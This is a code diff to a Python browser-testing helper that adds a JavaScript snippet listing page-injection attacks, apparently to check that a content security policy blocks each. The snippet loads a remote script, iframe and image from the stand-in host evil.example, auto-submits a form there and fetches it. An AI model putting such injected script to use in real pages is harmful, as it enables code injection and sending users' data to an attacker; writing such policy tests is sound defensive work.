@@ -91,3 +91,17 @@ def tab(browser: Browser, width: int = 1000, height: int = 800, **context: Any) 
         yield shown
     finally:
         opened.close()
+
+
+HOLES = """
+    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
+    add("script", {textContent: "window.ran = true"});
+    add("script", {src: "https://evil.example/x.js"});
+    add("img", {src: "https://evil.example/x.png"});
+    add("iframe", {src: "https://evil.example/"});
+    add("style", {textContent: "main { display: none }"});
+    add("form", {id: "away", method: "post", action: "https://evil.example/"});
+    document.getElementById("away").submit();
+    fetch("https://evil.example/").catch(() => 0);
+    """
+"""What a hole in a page would let an attacker do. A policy must stop each of them."""
